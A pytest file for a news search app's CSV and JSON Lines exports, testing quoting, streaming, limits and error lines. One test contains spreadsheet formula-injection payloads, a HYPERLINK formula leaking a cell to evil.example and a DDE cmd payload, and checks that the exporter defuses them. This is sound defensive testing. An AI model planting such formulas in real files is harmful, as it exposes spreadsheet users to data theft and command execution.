"""Exports: every hit of a search as CSV or JSON Lines, streamed."""

import csv
import io
import json
import subprocess
import sys

import pytest

from search.errors import IndexDamagedError
from search.export import BOM, COLUMNS, csv_lines, export_row, jsonl_lines, stopped_line
from search.query import SearchRequest, SearchService
from web import create_app

from .conftest import ROOT

ROW = {"id": "a1", "title": 'Kata "kutip", koma\ndan baris', "date": "2022-09-28", "url": None, "source": "Lampost",
       "place": None, "outlet": "lampost.co", "regions": [], "officials": ["Thamrin", "Suhajar Diantoro"],
       "agencies": [], "story": "a1"}


def test_csv_has_a_bom_a_header_and_rfc_4180_quoting():
    text = "".join(csv_lines([ROW]))
    assert text.startswith(BOM + "id,title,date,url,source,place,regions,officials,agencies,story,outlet\r\n")
    assert text.endswith('a1,"Kata ""kutip"", koma\ndan baris",2022-09-28,,Lampost,,,Thamrin; Suhajar Diantoro,,a1,'
                         'lampost.co\r\n')
    assert list(csv.reader(io.StringIO(text[1:])))[1][1] == 'Kata "kutip", koma\ndan baris'


def test_a_csv_cell_a_spreadsheet_would_run_as_a_formula_starts_with_an_apostrophe():
    row = {**ROW, "title": '=HYPERLINK("http://evil.example/?"&A1,"Klik")', "source": "@SUM(1+1)", "place": "+62 media",
           "url": "-2+3", "officials": ["=cmd|' /C calc'!A0", "Thamrin"]}
    cells = list(csv.reader(io.StringIO("".join(csv_lines([row]))[1:])))[1]
    assert cells[1:6] == ["'=HYPERLINK(\"http://evil.example/?\"&A1,\"Klik\")", "2022-09-28", "'-2+3", "'@SUM(1+1)",
                          "'+62 media"]
    assert cells[7] == "'=cmd|' /C calc'!A0; Thamrin"
    assert list(jsonl_lines([row])) == [json.dumps(row, ensure_ascii=False) + "\n"]  # JSON keeps every value


def test_csv_reads_the_first_row_before_giving_the_header():
    def failing():
        raise IndexDamagedError("the index generation g is damaged")
        yield ROW

    lines = csv_lines(failing())
    with pytest.raises(IndexDamagedError):
        next(lines)  # the header is not given before the search has found its first row
    assert list(csv_lines([])) == [BOM + ",".join(COLUMNS) + "\r\n"]  # no match: the header alone


def test_jsonl_is_one_object_a_line():
    assert list(jsonl_lines([ROW, ROW])) == [json.dumps(ROW, ensure_ascii=False) + "\n"] * 2


def test_rows_take_names_and_default_the_story_to_the_article():
    stored = {"id": "x", "officials": [{"name": "Thamrin", "role": "Sekda"}], "agencies": [{"name": "BPBD", "acronym": None}]}
    assert export_row(stored) == {"id": "x", "title": "", "date": None, "url": None, "source": None, "place": None,
                                  "outlet": None, "regions": [], "officials": ["Thamrin"], "agencies": ["BPBD"],
                                  "story": "x"}


@pytest.fixture()
def story_client(stories_root):
    flask_app = create_app({"WARTA_INDEX": str(stories_root), "TESTING": True})
    yield flask_app.test_client()
    flask_app.extensions["warta"].close()


def test_service_export_gives_every_hit_in_order_and_is_a_generator(stories_root):
    service = SearchService(stories_root)
    try:
        rows = service.export(SearchRequest("Lampung Selatan", sort="date", per_page=1, collapse=False))
        assert next(rows)["date"] == "2022-09-30"  # produced one at a time, not a list
        assert [r["date"] for r in rows] == ["2022-09-30", "2022-09-29", "2022-09-28"]  # not just one page
        collapsed = list(service.export(SearchRequest("Lampung Selatan", sort="date")))
        assert [r["source"] for r in collapsed] == ["Lampost", "Diskominfo"]
        assert len(list(service.export(SearchRequest("Lampung Selatan"), limit=1))) == 1
    finally:
        service.close()


def test_api_streams_csv_and_jsonl(story_client):
    response = story_client.get("/api/search.csv?q=Lampung+Selatan&sort=date&collapse=false")
    assert response.status_code == 200 and response.is_streamed
    assert response.mimetype == "text/csv"
    text = response.get_data(as_text=True)
    records = list(csv.DictReader(io.StringIO(text[1:])))
    assert text[0] == BOM and tuple(records[0]) == COLUMNS
    assert [r["date"] for r in records] == ["2022-09-30", "2022-09-30", "2022-09-29", "2022-09-28"]
    assert len({r["story"] for r in records}) == 2
    lines = story_client.get("/api/search.jsonl?q=Lampung+Selatan&sort=date").get_data(as_text=True).splitlines()
    assert [json.loads(line)["source"] for line in lines] == ["Lampost", "Diskominfo"]
    same = story_client.get("/api/export?q=Lampung+Selatan&sort=date&format=jsonl").get_data(as_text=True)
    assert same.splitlines() == lines


def test_api_export_refuses_an_unknown_format_and_a_limit_out_of_range(story_client):
    response = story_client.get("/api/export?q=x&format=xlsx")
    assert response.status_code == 400 and response.get_json()["error"]["code"] == "bad_format"
    for limit in ("0", "10001", "many"):
        response = story_client.get(f"/api/search.csv?q=x&limit={limit}")
        assert response.status_code == 400 and response.get_json()["error"]["code"] == "bad_limit"
    lines = story_client.get("/api/search.jsonl?q=Lampung&collapse=false&limit=3").get_data(as_text=True).splitlines()
    assert len(lines) == 3


def test_api_export_says_how_many_hits_there_are_and_how_many_rows_it_lists(story_client):
    """Trial 32: an export cut at the limit looked like a complete one."""
    cut = story_client.get("/api/search.jsonl?q=Lampung&collapse=false&limit=3")
    assert (cut.headers["X-Total-Count"], cut.headers["X-Export-Rows"], len(cut.get_data().splitlines())) == (
        "4", "3", 3)
    whole = story_client.get("/api/search.csv?q=Lampung&collapse=false")
    assert (whole.headers["X-Total-Count"], whole.headers["X-Export-Rows"], len(whole.get_data().splitlines())) == (
        "4", "4", 5)  # the header line and four rows


def test_the_line_ending_an_export_cut_by_an_error_says_why_in_each_format():
    assert stopped_line("jsonl", "index_damaged", "gen-1 is damaged: é") == (
        '{"error": {"code": "index_damaged", "message": "gen-1 is damaged: é"}}\n')
    assert stopped_line("csv", "index_damaged", "gen-1 is damaged") == (
        "# export stopped (index_damaged): gen-1 is damaged\r\n")
    assert stopped_line("csv", "internal_error", 'a "b", c') == (
        '"# export stopped (internal_error): a ""b"", c"\r\n')  # one cell, quoted as RFC 4180 asks


def _damaged_after_one_row(service, request, limit=None):
    yield ROW
    raise IndexDamagedError(f"the index generation {service.index_root}/gen-1 is damaged: MAIN.pst has 100 bytes")


@pytest.mark.parametrize("path, last", [
    ("/api/search.jsonl?q=Lampung", '{"error": {"code": "index_damaged", "message": '
                                    '"the index generation gen-1 is damaged: MAIN.pst has 100 bytes"}}\n'),
    ("/api/search.csv?q=Lampung", "# export stopped (index_damaged): the index generation gen-1 is damaged: "
                                  "MAIN.pst has 100 bytes\r\n")])
def test_an_export_cut_by_damage_while_it_streams_ends_with_a_line_saying_why(story_client, monkeypatch, path, last):
    """Trial finding: such an export was a 200 whose body just stopped, like a shorter export. Its status is sent
    before: the last line says why, and the error goes on to the server (logged; the answer left incomplete)."""
    monkeypatch.setattr(SearchService, "export", _damaged_after_one_row)
    response = story_client.get(path, buffered=False)
    sent = []
    with pytest.raises(IndexDamagedError):
        for chunk in response.response:
            sent.append(chunk.decode("utf-8"))
    response.close()
    rows = csv_lines([ROW]) if ".csv" in path else jsonl_lines([ROW])
    assert (response.status_code, "".join(sent)) == (200, "".join(rows) + last)


def test_cli_export_cut_at_the_limit_says_so_on_stderr(stories_root, monkeypatch, capsys):
    import search.export
    import search.query
    from search.cli import EXIT_OK, main

    monkeypatch.setattr(search.query, "EXPORT_LIMIT", 2)
    monkeypatch.setattr(search.export, "EXPORT_LIMIT", 2)
    argv = ["search", "Lampung", "--all-articles", "--format", "jsonl", "--index", str(stories_root)]
    assert main(argv) == EXIT_OK
    out, err = capsys.readouterr()
    assert (len(out.splitlines()), err) == (2, "warta search: 2 of 4 hits exported: an export stops at 2 rows; "
                                               "narrow the search for the rest\n")
    monkeypatch.setattr(search.query, "EXPORT_LIMIT", 4)
    monkeypatch.setattr(search.export, "EXPORT_LIMIT", 4)
    assert main(argv) == EXIT_OK
    out, err = capsys.readouterr()
    assert (len(out.splitlines()), err) == (4, "")


def test_cli_prints_every_hit_as_csv_or_jsonl(stories_root):
    command = [sys.executable, "-m", "search.cli", "search", "Lampung Selatan", "--sort", "date", "--index", str(stories_root)]
    out = subprocess.run(command + ["--format", "jsonl", "--all-articles"], cwd=ROOT, capture_output=True, text=True, check=True)
    assert len(out.stdout.splitlines()) == 4
    out = subprocess.run(command + ["--format", "csv"], cwd=ROOT, capture_output=True, text=True, check=True)
    assert out.stdout.startswith(BOM + "id,title,date") and len(out.stdout.splitlines()) == 3


def test_exports_give_each_rows_outlet_as_the_source_facet_counts_it_in_a_last_column(tmp_path):
    """Trial 55: exports gave `source` as the record wrote it (`cnn indonesia`) and nothing of the facet's
    `cnnindonesia.com`; `outlet` is added, the CSV's last column, so the other columns stay where they were."""
    from .conftest import OUTLET_RECORDS, index_of_records

    app = create_app({"WARTA_INDEX": str(index_of_records(tmp_path, OUTLET_RECORDS)), "TESTING": True})
    try:
        client = app.test_client()
        text = client.get("/api/search.csv?q=banjir&sort=date").get_data(as_text=True)
        rows = list(csv.reader(io.StringIO(text[1:])))
        assert rows[0] == ["id", "title", "date", "url", "source", "place", "regions", "officials", "agencies",
                           "story", "outlet"]
        assert [(row[4], row[10]) for row in rows[1:]] == [
            ("", ""), ("detik", "detik.com"), ("detik.com/jatim", "detik.com"), ("cnn indonesia", "cnnindonesia.com")]
        lines = client.get("/api/search.jsonl?q=banjir&sort=date").get_data(as_text=True).splitlines()
        assert [(row["source"], row["outlet"]) for row in map(json.loads, lines)] == [
            (None, None), ("detik", "detik.com"), ("detik.com/jatim", "detik.com"), ("cnn indonesia", "cnnindonesia.com")]
        facet = client.get("/api/search?q=banjir").get_json()["facets"]["source"]
        assert sorted((item["value"], item["count"]) for item in facet) == [("cnnindonesia.com", 1), ("detik.com", 2)]
    finally:
        app.extensions["warta"].close()
